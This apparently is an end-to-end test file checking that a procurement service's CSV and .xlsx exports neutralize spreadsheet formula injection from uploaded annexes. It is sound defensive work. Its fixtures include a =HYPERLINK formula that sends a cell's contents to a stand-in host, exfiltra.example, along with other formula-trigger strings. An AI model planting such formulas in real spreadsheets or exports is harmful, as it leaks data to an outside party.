import ExcelJS from 'exceljs';
import { DevTokenIssuer, loadAuthConfig } from '@imb/auth';
import { RunningService, ServiceStack, waitForJob } from '@imb/testing';

/**
 * Formula injection through the consolidation exports, on a real procurement process with Kafka,
 * PostgreSQL and Redis: an annex whose descriptions a spreadsheet would run as formulas is
 * imported as published (the JSON API gives them back unchanged), and both exports, CSV and
 * .xlsx, write them as text with a leading single quote while the quantities stay numbers.
 */
const EXERCISE = '2033-2034';
const HYPERLINK = '=HYPERLINK("https://exfiltra.example/?d="&A3,"Ver detalle")';
/** Clave, description as uploaded, MIN and MAX of the one institution (also the TOTALES). */
const DEMAND: [string, string, number, number][] = [
  ['010.000.0101.00', HYPERLINK, 10, 20],
  ['010.000.0102.00', '+1', 3, 4],
  ['010.000.0103.00', '-2', 5, 6],
  ['010.000.0104.00', '@SUM(1)', 7, 8],
  ['010.000.0105.00', 'PARACETAMOL 500 MG TABLETA', 1200, 3000],
];

async function annex(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Anexo');
  ws.getRow(3).values = [null, null, 'ISSSTE', null, 'TOTALES'];
  ws.getRow(4).values = ['CLAVE', 'DESCRIPCIÓN', 'MIN', 'MAX', 'MIN', 'MAX'];
  for (const [clave, description, min, max] of DEMAND) ws.addRow([clave, description, min, max, min, max]);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe('procurement exports: no formula from an uploaded annex reaches a spreadsheet', () => {
  const stack = new ServiceStack('e2e-proc-export');
  const issuer = new DevTokenIssuer(loadAuthConfig({ ...process.env, AUTH_DEV_ISSUER: 'true' }));
  let service: RunningService;
  let officer: string;

  const get = (path: string) => fetch(`${service.url}/api/procurement/exercises/${EXERCISE}/${path}`, { headers: { authorization: `Bearer ${officer}` } });
  const completed = async (jobId: string) => {
    const job = await waitForJob<any>(service, jobId, officer, 60000);
    expect([job.status, job.failureReason ?? null]).toEqual(['completed', null]);
    return job;
  };

  beforeAll(async () => {
    service = await stack.start('procurement');
    officer = await issuer.sign({ sub: 'olga', roles: ['procurement-officer'], states: [] });
    const created = await fetch(`${service.url}/api/procurement/exercises`, {
      method: 'POST',
      headers: { authorization: `Bearer ${officer}`, 'content-type': 'application/json' },
      body: JSON.stringify({ code: EXERCISE, name: 'Anexo con fórmulas' }),
    });
    expect(created.status).toBe(201);
    const form = new FormData();
    form.append('file', new Blob([await annex()]), 'anexo.xlsx');
    const upload = await fetch(`${service.url}/api/procurement/exercises/${EXERCISE}/demand/imports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${officer}` },
      body: form,
    });
    expect(upload.status).toBe(202);
    const imported = await completed(((await upload.json()) as { jobId: string }).jobId);
    expect(imported.result).toMatchObject({ claves: DEMAND.length, refusedRows: 0, totalsMismatches: 0 });
    const consolidate = await fetch(`${service.url}/api/procurement/exercises/${EXERCISE}/consolidate`, { method: 'POST', headers: { authorization: `Bearer ${officer}` } });
    expect(consolidate.status).toBe(202);
    await completed(((await consolidate.json()) as { jobId: string }).jobId);
  });

  afterAll(async () => {
    await stack.stop();
  });

  it('keeps the descriptions as uploaded in the JSON view', async () => {
    const view = (await (await get('consolidation')).json()) as { items: { clave: string; description: string; min: number; max: number }[] };
    expect(view.items.map((i) => [i.clave, i.description, i.min, i.max])).toEqual(DEMAND);
  });

  it('writes them to the CSV as quoted text behind a single quote, the quantities as bare numbers', async () => {
    const res = await get('consolidation.csv');
    expect(res.status).toBe(200);
    expect((await res.text()).split('\r\n')).toEqual([
      'CLAVE,DESCRIPCION,MIN,MAX',
      `010.000.0101.00,"'=HYPERLINK(""https://exfiltra.example/?d=""&A3,""Ver detalle"")",10,20`,
      `010.000.0102.00,"'+1",3,4`,
      `010.000.0103.00,"'-2",5,6`,
      `010.000.0104.00,"'@SUM(1)",7,8`,
      '010.000.0105.00,PARACETAMOL 500 MG TABLETA,1200,3000',
      '',
    ]);
  });

  it('writes them to the .xlsx as text cells, never formulas, with the same single quote; the quantities as numbers', async () => {
    const res = await get('consolidation.xlsx');
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as any);
    const sheet = wb.worksheets[0];
    const rows = DEMAND.map((_, i) => sheet.getRow(3 + i));
    expect(rows.map((r) => [r.getCell(1).value, r.getCell(2).value, r.getCell(3).value, r.getCell(4).value])).toEqual([
      ['010.000.0101.00', `'${HYPERLINK}`, 10, 20],
      ['010.000.0102.00', "'+1", 3, 4],
      ['010.000.0103.00', "'-2", 5, 6],
      ['010.000.0104.00', "'@SUM(1)", 7, 8],
      ['010.000.0105.00', 'PARACETAMOL 500 MG TABLETA', 1200, 3000],
    ]);
    expect(rows.map((r) => [r.getCell(2).type, r.getCell(3).type])).toEqual(DEMAND.map(() => [ExcelJS.ValueType.String, ExcelJS.ValueType.Number]));
  });
});
